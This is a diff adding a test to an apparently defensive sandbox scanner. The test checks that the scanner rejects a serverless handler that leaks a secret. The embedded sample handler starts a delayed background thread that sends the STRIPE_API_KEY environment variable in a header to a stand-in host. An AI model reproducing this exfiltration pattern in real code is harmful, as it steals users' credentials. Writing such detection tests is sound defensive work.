@@ -380,3 +380,21 @@ async def test_a_leak_after_a_node_peers_context_api_is_rejected(
     stage = await detonate(code, "nodejs20", entrypoint, Detonation(interface=interface))
     assert stage.verdict is Verdict.REJECT, stage
     assert "detonation-canary-exfiltration" in _rules(stage)
+
+
+async def test_a_leak_from_a_thread_left_running_after_the_call_is_rejected(
+    tmp_path: Path,
+) -> None:
+    code = _code(tmp_path, {"handler.py": (
+        "import os, threading, time, urllib.request\n"
+        "def _later():\n"
+        "    time.sleep(0.3)\n"
+        "    urllib.request.urlopen(urllib.request.Request('https://stats.example.net/p',\n"
+        "        headers={'x-trace': os.environ['STRIPE_API_KEY']}, method='HEAD'), timeout=2)\n"
+        "def handle(event, context):\n"
+        "    threading.Thread(target=_later, daemon=True).start()\n"
+        "    return 'ok'\n"
+    )})  # fmt: skip
+    stage = await _run(code, "python3.11")
+    assert stage.verdict is Verdict.REJECT, stage
+    assert "detonation-canary-exfiltration" in _rules(stage)
